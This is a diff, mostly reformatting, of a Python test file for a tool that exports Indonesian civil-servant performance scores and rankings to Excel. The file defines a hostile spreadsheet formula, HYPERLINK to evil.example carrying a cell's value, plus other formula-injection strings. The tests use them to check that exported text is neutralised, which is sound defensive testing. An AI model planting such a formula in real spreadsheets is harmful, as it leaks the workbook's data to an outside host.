@@ -49,9 +49,15 @@ HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
 PREDIKAT = [p.value for p in PREDIKAT_PEGAWAI_ORDER]
 RATINGS = ("Di Atas Ekspektasi", "Sesuai Ekspektasi", "Di Bawah Ekspektasi")
 MATRIX = {  # (hasil, perilaku) -> predikat, PermenPANRB 6/2022
-    (0, 0): "Sangat Baik", (0, 1): "Baik", (0, 2): "Kurang/Misconduct",
-    (1, 0): "Baik", (1, 1): "Baik", (1, 2): "Kurang/Misconduct",
-    (2, 0): "Butuh Perbaikan", (2, 1): "Butuh Perbaikan", (2, 2): "Sangat Kurang",
+    (0, 0): "Sangat Baik",
+    (0, 1): "Baik",
+    (0, 2): "Kurang/Misconduct",
+    (1, 0): "Baik",
+    (1, 1): "Baik",
+    (1, 2): "Kurang/Misconduct",
+    (2, 0): "Butuh Perbaikan",
+    (2, 1): "Butuh Perbaikan",
+    (2, 2): "Sangat Kurang",
 }
 
 
@@ -61,6 +67,7 @@ def _nip(i: int) -> str:
 
 def assign_ranks(employees: list[EmployeeScore]) -> None:
     """Competition ranking (1, 2, 2, 4) by predikat then nilai; test data only."""
+
     def key(e: EmployeeScore) -> tuple[int, float]:
         return (PREDIKAT.index(e.predikat or ""), -round(e.nilai or 0.0, 9))
 
@@ -78,8 +85,14 @@ def assign_ranks(employees: list[EmployeeScore]) -> None:
         rank([e for e in ranked if e.unit == unit], "rank_unit")
 
 
-def make_result(n_units: int = 3, per_unit: int = 5, *, missing_unit: bool = True,
-                hostile: bool = True, periode: str = "tahunan") -> ScoreResult:
+def make_result(
+    n_units: int = 3,
+    per_unit: int = 5,
+    *,
+    missing_unit: bool = True,
+    hostile: bool = True,
+    periode: str = "tahunan",
+) -> ScoreResult:
     """A deterministic ScoreResult built by hand (no scorer involved)."""
     units: list[UnitScore] = []
     employees: list[EmployeeScore] = []
@@ -101,46 +114,119 @@ def make_result(n_units: int = 3, per_unit: int = 5, *, missing_unit: bool = Tru
             if hostile and u == 0 and k == 1:
                 nama = "@SUM(1,2)"
             e = EmployeeScore(
-                nip=_nip(i), nama=nama, unit=kode, jabatan=jabatan, golongan="III/a",
+                nip=_nip(i),
+                nama=nama,
+                unit=kode,
+                jabatan=jabatan,
+                golongan="III/a",
                 nilai=nilai if lengkap else None,
                 rating_hasil_kerja=RATINGS[hasil] if lengkap else None,
-                rating_hasil_kerja_derived=derived, rating_perilaku=RATINGS[perilaku],
-                predikat=MATRIX[(hasil, perilaku)] if lengkap else None, lengkap=lengkap,
-                rows=[RowScore(unit=kode, kode="UM-01", nip=_nip(i), target=100.0,
-                               realisasi=nilai, capaian=nilai if lengkap else None, bobot=100.0)],
+                rating_hasil_kerja_derived=derived,
+                rating_perilaku=RATINGS[perilaku],
+                predikat=MATRIX[(hasil, perilaku)] if lengkap else None,
+                lengkap=lengkap,
+                rows=[
+                    RowScore(
+                        unit=kode,
+                        kode="UM-01",
+                        nip=_nip(i),
+                        target=100.0,
+                        realisasi=nilai,
+                        capaian=nilai if lengkap else None,
+                        bobot=100.0,
+                    )
+                ],
                 catatan=[] if lengkap else ["-baris SKP 12 tidak lengkap"],
             )
             emps.append(e)
             i += 1
         employees += emps
         dist = {p: sum(1 for e in emps if e.predikat == p) for p in PREDIKAT}
-        units.append(UnitScore(
-            kode=kode, nama=f"Dinas Nomor {u + 1}", pegawai_count=len(emps),
-            capaian_iku=88.0 + u * 7.5 + 0.125, predikat_organisasi="Baik" if u % 2 else "Istimewa",
-            predikat_organisasi_derived=u != 1, distribusi=dist, kurva_ok=u != 2,
-            kurva_pelanggaran=[] if u != 2 else ["Baik lebih dari 70 % (80 %)"], rank=u + 1,
-            iku_rows=[RowScore(unit=kode, kode="IKU-UM-01", nip=None, target=95.0,
-                               realisasi=90.0, capaian=94.736842)],
-        ))
-        sources.append({"file": f"RENCANA-{kode}-2026.xlsx", "unit": kode,
-                        "sha256": f"{u:064x}", "version": 1 + u % 2,
-                        "ingested_at": datetime(2026, 11, 20, 9, 30, u % 60),
-                        "fingerprint": "0123456789abcdef"})
+        units.append(
+            UnitScore(
+                kode=kode,
+                nama=f"Dinas Nomor {u + 1}",
+                pegawai_count=len(emps),
+                capaian_iku=88.0 + u * 7.5 + 0.125,
+                predikat_organisasi="Baik" if u % 2 else "Istimewa",
+                predikat_organisasi_derived=u != 1,
+                distribusi=dist,
+                kurva_ok=u != 2,
+                kurva_pelanggaran=[] if u != 2 else ["Baik lebih dari 70 % (80 %)"],
+                rank=u + 1,
+                iku_rows=[
+                    RowScore(
+                        unit=kode,
+                        kode="IKU-UM-01",
+                        nip=None,
+                        target=95.0,
+                        realisasi=90.0,
+                        capaian=94.736842,
+                    )
+                ],
+            )
+        )
+        sources.append(
+            {
+                "file": f"RENCANA-{kode}-2026.xlsx",
+                "unit": kode,
+                "sha256": f"{u:064x}",
+                "version": 1 + u % 2,
+                "ingested_at": datetime(2026, 11, 20, 9, 30, u % 60),
+                "fingerprint": "0123456789abcdef",
+            }
+        )
     if missing_unit:
-        units.append(UnitScore(kode="ZBELUM", nama="Dinas Belum Kirim", pegawai_count=0,
-                               capaian_iku=None, predikat_organisasi=None,
-                               predikat_organisasi_derived=False,
-                               distribusi=dict.fromkeys(PREDIKAT, 0), kurva_ok=None,
-                               submitted=False))
+        units.append(
+            UnitScore(
+                kode="ZBELUM",
+                nama="Dinas Belum Kirim",
+                pegawai_count=0,
+                capaian_iku=None,
+                predikat_organisasi=None,
+                predikat_organisasi_derived=False,
+                distribusi=dict.fromkeys(PREDIKAT, 0),
+                kurva_ok=None,
+                submitted=False,
+            )
+        )
     assign_ranks(employees)
-    issues.append(make_issue("konfig_tidak_ada", "error", "RENCANA-UNIT01-2026.xlsx",
-                             sheet="SKP", cell="H12", row=12, column="Realisasi TW1",
-                             nilai=HOSTILE, path="x"))
-    issues.append(make_issue("konfig_tidak_ada", "warning", "-berkas.xlsx", sheet="SKP",
-                             cell="B3", row=3, column="Nama", nilai="+1+1", path="y"))
-    return ScoreResult(instansi="Pemerintah Kota Medan", tahun=2026, periode=periode,
-                       metode="permenpan-6-2022", units=units, employees=employees,
-                       issues=issues, sources=sources)
+    issues.append(
+        make_issue(
+            "konfig_tidak_ada",
+            "error",
+            "RENCANA-UNIT01-2026.xlsx",
+            sheet="SKP",
+            cell="H12",
+            row=12,
+            column="Realisasi TW1",
+            nilai=HOSTILE,
+            path="x",
+        )
+    )
+    issues.append(
+        make_issue(
+            "konfig_tidak_ada",
+            "warning",
+            "-berkas.xlsx",
+            sheet="SKP",
+            cell="B3",
+            row=3,
+            column="Nama",
+            nilai="+1+1",
+            path="y",
+        )
+    )
+    return ScoreResult(
+        instansi="Pemerintah Kota Medan",
+        tahun=2026,
+        periode=periode,
+        metode="permenpan-6-2022",
+        units=units,
+        employees=employees,
+        issues=issues,
+        sources=sources,
+    )
 
 
 @pytest.fixture(scope="module")
@@ -158,15 +244,26 @@ def recap(tmp_path_factory, config, result):
 # ---- safe_text --------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text", [HOSTILE, "=1+1", "+62 812", "-5", "@SUM(1)", "\t=1", "\r=1",
-                                  " =1+1", "\uff1d1+1"])
+@pytest.mark.parametrize(
+    "text", [HOSTILE, "=1+1", "+62 812", "-5", "@SUM(1)", "\t=1", "\r=1", " =1+1", "\uff1d1+1"]
+)
 def test_formula_like_text_is_neutralised(text):
     assert looks_like_formula(text)
     assert safe_text(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["Budi Santoso", "198609262015051001", "", "a=b", "III/a",
-                                  "Kurang/Misconduct", "'sudah dikutip"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Budi Santoso",
+        "198609262015051001",
+        "",
+        "a=b",
+        "III/a",
+        "Kurang/Misconduct",
+        "'sudah dikutip",
+    ],
+)
 def test_plain_text_is_unchanged(text):
     assert not looks_like_formula(text)
     assert safe_text(text) == text
@@ -271,8 +368,12 @@ def test_pembinaan_rule(result):
         else:
             assert r["predikat"] in ("Butuh Perbaikan", "Kurang/Misconduct", "Sangat Kurang")
             assert "pembinaan" in r["alasan"]
-    expected = sum(1 for e in result.employees if e.lengkap and e.predikat in
-                   ("Sangat Baik", "Butuh Perbaikan", "Kurang/Misconduct", "Sangat Kurang"))
+    expected = sum(
+        1
+        for e in result.employees
+        if e.lengkap
+        and e.predikat in ("Sangat Baik", "Butuh Perbaikan", "Kurang/Misconduct", "Sangat Kurang")
+    )
     assert len(rows) == expected
     derived = next(r for r in rows if "dihitung dari nilai" in r["alasan"])
     assert derived["nip"]
@@ -293,8 +394,17 @@ def test_recap_has_every_sheet_with_headers(recap):
     assert _header(wb["Pegawai"])[:4] == ["Peringkat", "Peringkat di Unit", "NIP", "Nama"]
     assert "Capaian IKU (%)" in _header(wb["Unit"])
     assert "Rata-rata Nilai" in _header(wb["Unit"])
-    assert _header(wb["Masalah"]) == ["Berkas", "Lembar", "Sel", "Baris", "Kolom", "Kode",
-                                      "Tingkat", "Pesan", "Nilai di Berkas"]
+    assert _header(wb["Masalah"]) == [
+        "Berkas",
+        "Lembar",
+        "Sel",
+        "Baris",
+        "Kolom",
+        "Kode",
+        "Tingkat",
+        "Pesan",
+        "Nilai di Berkas",
+    ]
     assert _header(wb["Sumber"])[:3] == ["Berkas", "Kode Unit", "SHA-256"]
     assert "Capaian Rata-rata (%)" in _header(wb["Indikator"])
     assert _header(wb["Pembinaan"])[:2] == ["Kategori", "Predikat"]
@@ -397,8 +507,9 @@ def test_recap_has_native_charts(recap):
 def test_recap_in_english_keeps_sheet_names(tmp_path, config, result):
     import openpyxl
 
-    path = write_recap(result, config, tmp_path / "r.xlsx", tanggal=date(2026, 1, 2),
-                       lang="en", kertas="F4")
+    path = write_recap(
+        result, config, tmp_path / "r.xlsx", tanggal=date(2026, 1, 2), lang="en", kertas="F4"
+    )
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == list(SHEETS)
     assert "Name" in _header(wb["Pegawai"])
@@ -416,8 +527,15 @@ def test_recap_rejects_unknown_paper(tmp_path, config, result):
 def test_recap_of_empty_result(tmp_path, config):
     import openpyxl
 
-    empty = ScoreResult(instansi="X", tahun=2026, periode="TW2", metode="permenpan-6-2022",
-                        units=[], employees=[], issues=[])
+    empty = ScoreResult(
+        instansi="X",
+        tahun=2026,
+        periode="TW2",
+        metode="permenpan-6-2022",
+        units=[],
+        employees=[],
+        issues=[],
+    )
     wb = openpyxl.load_workbook(write_recap(empty, config, tmp_path / "e.xlsx"))
     assert wb.sheetnames == list(SHEETS)
     assert wb["Ringkasan"]["B7"].value == "Sampai Triwulan 2 (TW1-TW2)"
@@ -427,16 +545,18 @@ def test_ranking_xlsx(tmp_path, config, result):
     import openpyxl
 
     rows = ranking_rows(result, "pegawai", top=3)
-    path = write_ranking_xlsx(rows, "pegawai", result, config, tmp_path / "p.xlsx",
-                              tanggal=date(2026, 11, 25))
+    path = write_ranking_xlsx(
+        rows, "pegawai", result, config, tmp_path / "p.xlsx", tanggal=date(2026, 11, 25)
+    )
     ws = openpyxl.load_workbook(path)["Peringkat"]
     heads = _header(ws)
     assert heads[:4] == ["Peringkat", "Peringkat di Unit", "Peringkat Keseluruhan", "NIP"]
     got = [ws.cell(5 + i, 4).value for i in range(len(rows))]
     assert got == [r["nip"] for r in rows]
     assert ws.freeze_panes == "A5" and ws.auto_filter.ref
-    unit_path = write_ranking_xlsx(ranking_rows(result, "unit"), "unit", result, config,
-                                   tmp_path / "u.xlsx")
+    unit_path = write_ranking_xlsx(
+        ranking_rows(result, "unit"), "unit", result, config, tmp_path / "u.xlsx"
+    )
     uws = openpyxl.load_workbook(unit_path)["Peringkat"]
     assert uws.cell(5, 2).value == "UNIT01" and uws.cell(5, 4).value == 88.13
 
@@ -517,8 +637,12 @@ def _soffice(args: list[str], home: Path) -> None:
     env = dict(os.environ, HOME=str(home))
     profile = f"-env:UserInstallation=file://{home}/lo-profile"
     started = time.monotonic()
-    proc = subprocess.run(["soffice", profile, "--headless", "--norestore", *args],
-                          capture_output=True, timeout=180, env=env)
+    proc = subprocess.run(
+        ["soffice", profile, "--headless", "--norestore", *args],
+        capture_output=True,
+        timeout=180,
+        env=env,
+    )
     assert proc.returncode == 0, (proc.stdout, proc.stderr, time.monotonic() - started)
 
 
